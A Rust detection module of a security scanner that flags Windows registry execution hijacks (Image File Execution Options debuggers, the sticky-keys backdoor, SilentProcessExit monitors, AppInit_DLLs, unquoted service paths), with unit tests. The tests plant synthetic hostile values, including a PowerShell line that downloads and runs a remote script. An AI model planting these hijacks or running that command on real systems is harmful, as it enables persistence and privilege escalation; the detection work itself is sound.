//! Execution hijacks in the registry hives of a Windows image: places where Windows runs a
//! program of the publisher's choosing in place of, or inside, another one, as Sysinternals
//! Autoruns lists them ("Image hijacks", "AppInit") and privilege-escalation audits
//! (PrivescCheck, PowerUp) report them. Read from the hives `windows_hives` reads once.
//!
//! - **Image File Execution Options** (`SOFTWARE` `Microsoft\Windows NT\CurrentVersion\Image
//!   File Execution Options\<exe>` `Debugger`, and its `Wow6432Node` twin): Windows starts the
//!   debugger instead of `<exe>`. `windows-ifeo-hijack`, high; critical when `<exe>` is one of
//!   the accessibility programs the logon screen starts (sethc, utilman, osk, magnify,
//!   narrator, displayswitch, atbroker): the sticky-keys backdoor, a SYSTEM shell at the
//!   logon screen without a password. The same rule for `SilentProcessExit\<exe>`
//!   `MonitorProcess` (run when `<exe>` exits; Windows honours it when the IFEO key's
//!   `GlobalFlag` has `FLG_MONITOR_SILENT_PROCESS_EXIT`, 0x200, which the evidence says).
//! - **AppInit_DLLs** (`Microsoft\Windows NT\CurrentVersion\Windows` `AppInit_DLLs`, and the
//!   `Wow6432Node` twin): DLLs loaded into every process that loads user32.dll.
//!   `windows-appinit-dlls`, high when `LoadAppInit_DLLs` is 1 (they are loaded), medium when
//!   not (one value away from it).
//! - **Unquoted service paths** (`SYSTEM` `<current control set>\Services\<name>`
//!   `ImagePath`): an unquoted path with a space before its `.exe` (`C:\Program Files\Build
//!   Agent\agent.exe`) makes the service control manager try `C:\Program.exe`, then
//!   `C:\Program Files\Build.exe`: whoever may write one of those runs code as the service's
//!   account. `windows-unquoted-service-path`, medium. Kernel drivers' `\SystemRoot\…` and
//!   `System32\…` paths are not command lines and are left alone.
//!
//! Each finding names the key and value and shows the command the way `windows_command`
//! shows commands (a password after a switch and long base64 tokens hidden). An empty or
//! default value gives nothing.

use super::windows_autoruns::{at_value, control_set, dword};
use super::{CheckHit, CheckRule, clip, windows_command};
use crate::detect::hive::{Hive, HiveError, Value};
use crate::report::Severity;

/// A program replaced or followed through Image File Execution Options.
pub(crate) const IFEO_RULE: CheckRule = CheckRule {
    id: "windows-ifeo-hijack",
    title: "Program hijacked through Image File Execution Options (Debugger or SilentProcessExit MonitorProcess)",
    severity: Severity::High,
    remediation: "Delete the `Debugger` value (`Remove-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\<exe>' -Name Debugger`) or the `SilentProcessExit\\<exe>` key, and find out how it got there; on an accessibility program (sethc.exe, utilman.exe…) it gives anyone at the logon screen a SYSTEM shell: treat the image as compromised.",
    suppresses: &[],
};

/// DLLs loaded into every process through AppInit_DLLs.
pub(crate) const APPINIT_RULE: CheckRule = CheckRule {
    id: "windows-appinit-dlls",
    title: "DLLs injected into every process through AppInit_DLLs",
    severity: Severity::High,
    remediation: "Empty `AppInit_DLLs` and set `LoadAppInit_DLLs` to 0 under HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows (and Wow6432Node) with `Set-ItemProperty`, unless a vetted product needs it; AppInit DLLs are a classic persistence and injection mechanism (and are ignored when Secure Boot is on).",
    suppresses: &[],
};

/// A service whose unquoted path has a space before its program.
pub(crate) const UNQUOTED_RULE: CheckRule = CheckRule {
    id: "windows-unquoted-service-path",
    title: "Windows service path unquoted with a space in it (privilege escalation)",
    severity: Severity::Medium,
    remediation: "Quote the service's ImagePath (`sc.exe config <name> binPath= \"\\\"C:\\Program Files\\App\\svc.exe\\\" args\"`); unquoted, Windows tries each space-separated prefix as a program, and a user who can write one (`C:\\Program.exe`, a folder under a writable parent) runs code as the service's account.",
    suppresses: &[],
};

/// Every rule of the family.
pub(crate) const RULES: &[CheckRule] = &[IFEO_RULE, APPINIT_RULE, UNQUOTED_RULE];

/// Most subkeys judged per key.
const MAX_ITEMS: usize = 10_000;

/// The programs the logon screen starts (Ease of Access, the display switcher).
const ACCESSIBILITY: &[&str] = &[
    "sethc.exe",
    "utilman.exe",
    "osk.exe",
    "magnify.exe",
    "narrator.exe",
    "displayswitch.exe",
    "atbroker.exe",
];

/// `GlobalFlag` bit that turns SilentProcessExit monitoring on.
const FLG_MONITOR_SILENT_PROCESS_EXIT: u32 = 0x200;

const NT: &str = "Microsoft\\Windows NT\\CurrentVersion";

/// The hijacks of `SOFTWARE`: IFEO debuggers, SilentProcessExit monitors, AppInit_DLLs.
pub(crate) fn software(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    let mut hits = Vec::new();
    for prefix in ["", "Wow6432Node\\"] {
        hits.extend(ifeo(h, prefix)?);
    }
    hits.extend(silent_exit(h)?);
    for prefix in ["", "Wow6432Node\\"] {
        hits.extend(appinit(h, prefix)?);
    }
    Ok(hits)
}

fn fingerprint(place: &str, command: &str) -> Vec<u8> {
    let mut fp = place.as_bytes().to_vec();
    fp.push(0);
    fp.extend_from_slice(command.as_bytes());
    fp
}

/// The judgement `windows_command` adds to evidence: why a command is worse still.
fn why(command: &str) -> String {
    let j = windows_command::judge(command);
    match (j.download, j.writable) {
        (Some(d), _) => format!(" ({d})"),
        (None, Some(dir)) => format!(" (a program in {dir}, which users may write by default)"),
        (None, None) => String::new(),
    }
}

fn is_accessibility(exe: &str) -> bool {
    ACCESSIBILITY.iter().any(|a| a.eq_ignore_ascii_case(exe))
}

/// For each subkey of `path` (one per program, at most `MAX_ITEMS`) with a non-empty string
/// value `name`: the program, the value and its text.
fn commands(
    h: &Hive<'_>,
    path: &str,
    name: &str,
) -> Result<Vec<(String, Value, String)>, HiveError> {
    let mut out = Vec::new();
    let Some(root) = h.key(path)? else {
        return Ok(out);
    };
    for k in h.subkeys(root)?.into_iter().take(MAX_ITEMS) {
        let Some(v) = h.get(k, name)? else {
            continue;
        };
        let command = v.string();
        if !command.trim().is_empty() {
            out.push((h.name(k)?, v, command));
        }
    }
    Ok(out)
}

/// `Debugger` values under Image File Execution Options.
fn ifeo(h: &Hive<'_>, prefix: &str) -> Result<Vec<CheckHit>, HiveError> {
    let mut hits = Vec::new();
    let path = format!("{prefix}{NT}\\Image File Execution Options");
    for (exe, v, command) in commands(h, &path, "Debugger")? {
        let shown_exe = clip(&exe, 64);
        let place = format!("HKLM\\SOFTWARE\\{path}\\{shown_exe} `Debugger`");
        let (severity, what) = if is_accessibility(&exe) {
            (
                Severity::Critical,
                "an accessibility program the logon screen starts (the sticky-keys backdoor: a SYSTEM shell without logging on)",
            )
        } else {
            (IFEO_RULE.severity, "Windows runs it instead")
        };
        hits.push(at_value(
            &IFEO_RULE,
            severity,
            &v,
            format!(
                "{place}: {shown_exe} is replaced by {}{}; {what}",
                windows_command::shown(&command),
                why(&command)
            ),
            &fingerprint(&place, &command),
        ));
    }
    Ok(hits)
}

/// `MonitorProcess` values under SilentProcessExit.
fn silent_exit(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    let mut hits = Vec::new();
    let path = format!("{NT}\\SilentProcessExit");
    for (exe, v, command) in commands(h, &path, "MonitorProcess")? {
        let shown_exe = clip(&exe, 64);
        // Windows honours it when the program's IFEO key asks for monitoring.
        let flag = match h.key(&format!("{NT}\\Image File Execution Options"))? {
            Some(ifeo) => match h.subkey(ifeo, &exe)? {
                Some(key) => h.get(key, "GlobalFlag")?.and_then(|g| dword(&g)),
                None => None,
            },
            None => None,
        };
        let state = match flag {
            Some(f) if f & FLG_MONITOR_SILENT_PROCESS_EXIT != 0 => {
                "monitoring on (GlobalFlag 0x200)"
            }
            _ => "monitoring not on in its IFEO GlobalFlag",
        };
        let severity = if is_accessibility(&exe) {
            Severity::Critical
        } else {
            IFEO_RULE.severity
        };
        let place = format!("HKLM\\SOFTWARE\\{path}\\{shown_exe} `MonitorProcess`");
        hits.push(at_value(
            &IFEO_RULE,
            severity,
            &v,
            format!(
                "{place}: runs {}{} whenever {shown_exe} exits; {state}",
                windows_command::shown(&command),
                why(&command)
            ),
            &fingerprint(&place, &command),
        ));
    }
    Ok(hits)
}

/// `AppInit_DLLs` and whether `LoadAppInit_DLLs` loads them.
fn appinit(h: &Hive<'_>, prefix: &str) -> Result<Vec<CheckHit>, HiveError> {
    let path = format!("{prefix}{NT}\\Windows");
    let Some(k) = h.key(&path)? else {
        return Ok(Vec::new());
    };
    let Some(v) = h.get(k, "AppInit_DLLs")? else {
        return Ok(Vec::new());
    };
    let dlls = v.string();
    if dlls.trim().is_empty() {
        return Ok(Vec::new());
    }
    let load = h.get(k, "LoadAppInit_DLLs")?.as_ref().and_then(dword);
    let (severity, state) = if load == Some(1) {
        (Severity::High, "loaded (LoadAppInit_DLLs 1)")
    } else {
        (
            Severity::Medium,
            "not loaded while LoadAppInit_DLLs is not 1",
        )
    };
    let place = format!("HKLM\\SOFTWARE\\{path} `AppInit_DLLs`");
    Ok(vec![at_value(
        &APPINIT_RULE,
        severity,
        &v,
        format!(
            "{place}: {} injected into every process that loads user32.dll, {state}",
            windows_command::shown(&dlls)
        ),
        &fingerprint(&place, &dlls),
    )])
}

/// The unquoted program path of `image` with a space before its `.exe`, and the first
/// program Windows tries instead (`C:\Program.exe`); `None` when the path is quoted, has no
/// space before the program, or is a driver's `\SystemRoot\`/`System32\` path.
pub(crate) fn unquoted(image: &str) -> Option<(String, String)> {
    let image = image.trim();
    if image.starts_with('"') || image.is_empty() {
        return None;
    }
    let lower = image.to_ascii_lowercase();
    if [
        "\\systemroot\\",
        "system32\\",
        "\\??\\",
        "%systemroot%",
        "%windir%",
    ]
    .iter()
    .any(|p| lower.starts_with(p))
    {
        return None;
    }
    let end = lower.find(".exe")?.checked_add(4)?;
    // `.exe` ends the program only at a space, a quote or the end (`x.executor\…` does not).
    if !matches!(lower.as_bytes().get(end), None | Some(b' ' | b'"' | b'\t')) {
        return None;
    }
    let program = image.get(..end)?;
    let space = program.find(' ')?;
    // A path with a directory before the space (`C:\Program Files\…`), not `cmd /c x.exe`.
    if !program.get(..space)?.contains('\\') {
        return None;
    }
    Some((
        program.to_string(),
        format!("{}.exe", program.get(..space)?),
    ))
}

/// Services whose unquoted path has a space before its program (`SYSTEM`).
pub(crate) fn system(h: &Hive<'_>) -> Result<Vec<CheckHit>, HiveError> {
    let set = control_set(h)?;
    let mut hits = Vec::new();
    let Some(services) = h.key(&format!("{set}\\Services"))? else {
        return Ok(hits);
    };
    for k in h.subkeys(services)?.into_iter().take(MAX_ITEMS) {
        let Some(v) = h.get(k, "ImagePath")? else {
            continue;
        };
        let image = v.string();
        let Some((program, first)) = unquoted(&image) else {
            continue;
        };
        let name = clip(&h.name(k)?, 64);
        let disabled = h.get(k, "Start")?.as_ref().and_then(dword) == Some(4);
        let state = if disabled { " (disabled)" } else { "" };
        let evidence = format!(
            "service `{name}`{state} ImagePath is unquoted with a space in its path: Windows tries {} before {}",
            clip(&first, 120),
            clip(&program, 160)
        );
        hits.push(unquoted_hit(&v, evidence, &name, &image));
    }
    Ok(hits)
}

fn unquoted_hit(v: &Value, evidence: String, name: &str, image: &str) -> CheckHit {
    at_value(
        &UNQUOTED_RULE,
        UNQUOTED_RULE.severity,
        v,
        evidence,
        &fingerprint(name, image),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::hive::tests::{Builder, utf16z};

    const REG_SZ: u32 = 1;
    const REG_EXPAND_SZ: u32 = 2;
    const REG_DWORD: u32 = 4;

    fn brief(hits: &[CheckHit]) -> Vec<(&str, Severity)> {
        hits.iter().map(|h| (h.rule, h.severity)).collect()
    }

    /// `Microsoft\Windows NT\CurrentVersion` holding `children`, at the hive's root.
    fn nt_hive(mut b: Builder, children: &[u32], wow: &[u32]) -> Vec<u8> {
        let cv = b.key("CurrentVersion", children, &[]);
        let nt = b.key("Windows NT", &[cv], &[]);
        let ms = b.key("Microsoft", &[nt], &[]);
        let mut top = vec![ms];
        if !wow.is_empty() {
            let cv = b.key("CurrentVersion", wow, &[]);
            let nt = b.key("Windows NT", &[cv], &[]);
            let ms = b.key("Microsoft", &[nt], &[]);
            top.push(b.key("Wow6432Node", &[ms], &[]));
        }
        let root = b.key("ROOT", &top, &[]);
        b.finish(root)
    }

    #[test]
    fn ifeo_debuggers_and_the_sticky_keys_backdoor() {
        let mut b = Builder::new();
        let d = b.value("Debugger", REG_SZ, &utf16z(r"C:\Windows\System32\cmd.exe"));
        let sethc = b.key("sethc.exe", &[], &[d]);
        let d = b.value("Debugger", REG_SZ, &utf16z(r"C:\ProgramData\x\hook.exe"));
        let notepad = b.key("notepad.exe", &[], &[d]);
        // Stock entries: mitigation settings, no debugger; an empty debugger.
        let m = b.value("MitigationOptions", 3, &[0u8; 8]);
        let stock = b.key("winword.exe", &[], &[m]);
        let e = b.value("Debugger", REG_SZ, &utf16z(""));
        let empty = b.key("calc.exe", &[], &[e]);
        let g = b.value("GlobalFlag", REG_DWORD, &0x200u32.to_le_bytes());
        let flagged = b.key("lsass.exe", &[], &[g]);
        let ifeo = b.key(
            "Image File Execution Options",
            &[sethc, notepad, stock, empty, flagged],
            &[],
        );
        let mp = b.value(
            "MonitorProcess",
            REG_SZ,
            &utf16z("powershell -c \"iex (iwr http://203.0.113.7/m.ps1)\""),
        );
        let lsass = b.key("lsass.exe", &[], &[mp]);
        let spe = b.key("SilentProcessExit", &[lsass], &[]);
        let d = b.value("Debugger", REG_SZ, &utf16z(r"C:\Users\Public\u.exe"));
        let utilman = b.key("Utilman.exe", &[], &[d]);
        let wow_ifeo = b.key("Image File Execution Options", &[utilman], &[]);
        let bytes = nt_hive(b, &[ifeo, spe], &[wow_ifeo]);
        let h = Hive::parse(&bytes).unwrap();
        let hits = software(&h).unwrap();
        let ev: Vec<&str> = hits.iter().map(|h| h.evidence.as_str()).collect();
        assert_eq!(
            brief(&hits),
            [
                ("windows-ifeo-hijack", Severity::Critical),
                ("windows-ifeo-hijack", Severity::High),
                ("windows-ifeo-hijack", Severity::Critical),
                ("windows-ifeo-hijack", Severity::High),
            ],
            "{ev:#?}"
        );
        assert_eq!(
            ev[0],
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe `Debugger`: sethc.exe is replaced by C:\Windows\System32\cmd.exe; an accessibility program the logon screen starts (the sticky-keys backdoor: a SYSTEM shell without logging on)"
        );
        assert!(
            ev[1].contains("ProgramData, which users may write"),
            "{}",
            ev[1]
        );
        assert!(
            ev[2].starts_with(r"HKLM\SOFTWARE\Wow6432Node\Microsoft"),
            "{}",
            ev[2]
        );
        assert!(
            ev[3].contains("whenever lsass.exe exits; monitoring on (GlobalFlag 0x200)")
                && ev[3].contains("Invoke-Expression"),
            "{}",
            ev[3]
        );
    }

    #[test]
    fn appinit_dlls_loaded_or_not() {
        let mut b = Builder::new();
        let a = b.value(
            "AppInit_DLLs",
            REG_SZ,
            &utf16z(r"C:\ProgramData\hook\inject.dll"),
        );
        let l = b.value("LoadAppInit_DLLs", REG_DWORD, &1u32.to_le_bytes());
        let win = b.key("Windows", &[], &[a, l]);
        let a = b.value("AppInit_DLLs", REG_SZ, &utf16z(r"C:\Tools\x86hook.dll"));
        let l = b.value("LoadAppInit_DLLs", REG_DWORD, &0u32.to_le_bytes());
        let wow = b.key("Windows", &[], &[a, l]);
        let bytes = nt_hive(b, &[win], &[wow]);
        let h = Hive::parse(&bytes).unwrap();
        let hits = software(&h).unwrap();
        assert_eq!(
            brief(&hits),
            [
                ("windows-appinit-dlls", Severity::High),
                ("windows-appinit-dlls", Severity::Medium)
            ]
        );
        assert_eq!(
            hits[0].evidence,
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows `AppInit_DLLs`: C:\ProgramData\hook\inject.dll injected into every process that loads user32.dll, loaded (LoadAppInit_DLLs 1)"
        );
        // The stock value: empty, not loaded.
        let mut b = Builder::new();
        let a = b.value("AppInit_DLLs", REG_SZ, &utf16z(""));
        let l = b.value("LoadAppInit_DLLs", REG_DWORD, &0u32.to_le_bytes());
        let win = b.key("Windows", &[], &[a, l]);
        let bytes = nt_hive(b, &[win], &[]);
        assert!(software(&Hive::parse(&bytes).unwrap()).unwrap().is_empty());
    }

    #[test]
    fn unquoted_paths() {
        assert_eq!(
            unquoted(r"C:\Program Files\Build Agent\agent.exe -service"),
            Some((
                r"C:\Program Files\Build Agent\agent.exe".into(),
                r"C:\Program.exe".into()
            ))
        );
        for ok in [
            r#""C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe""#,
            r"%SystemRoot%\system32\svchost.exe -k netsvcs -p",
            r"C:\Windows\system32\svchost.exe -k LocalService",
            r"\SystemRoot\System32\drivers\disk.sys",
            r"System32\drivers\Some Driver.sys",
            r"C:\Tools\agent.exe --name x y",
            r"cmd /c C:\Tools\x.exe",
            r"C:\Program Files\App\svc.executor",
            "",
        ] {
            assert_eq!(unquoted(ok), None, "{ok}");
        }
    }

    #[test]
    fn services_with_unquoted_paths() {
        let mut b = Builder::new();
        let svc = |b: &mut Builder, name: &str, image: &str, start: u32| {
            let i = b.value("ImagePath", REG_EXPAND_SZ, &utf16z(image));
            let s = b.value("Start", REG_DWORD, &start.to_le_bytes());
            b.key(name, &[], &[i, s])
        };
        let bad = svc(
            &mut b,
            "BuildAgent",
            r"C:\Program Files\Build Agent\agent.exe run",
            2,
        );
        let off = svc(&mut b, "Old", r"C:\Old Tools\old.exe", 4);
        let quoted = svc(
            &mut b,
            "AmazonSSMAgent",
            r#""C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe""#,
            2,
        );
        let stock = svc(
            &mut b,
            "W32Time",
            r"%SystemRoot%\system32\svchost.exe -k LocalService",
            3,
        );
        let services = b.key("Services", &[bad, off, quoted, stock], &[]);
        let set = b.key("ControlSet001", &[services], &[]);
        let root = b.key("ROOT", &[set], &[]);
        let bytes = b.finish(root);
        let h = Hive::parse(&bytes).unwrap();
        let hits = system(&h).unwrap();
        assert_eq!(
            brief(&hits),
            [
                ("windows-unquoted-service-path", Severity::Medium),
                ("windows-unquoted-service-path", Severity::Medium)
            ]
        );
        assert_eq!(
            hits[0].evidence,
            r"service `BuildAgent` ImagePath is unquoted with a space in its path: Windows tries C:\Program.exe before C:\Program Files\Build Agent\agent.exe"
        );
        assert!(hits[1].evidence.starts_with("service `Old` (disabled)"));
    }
}
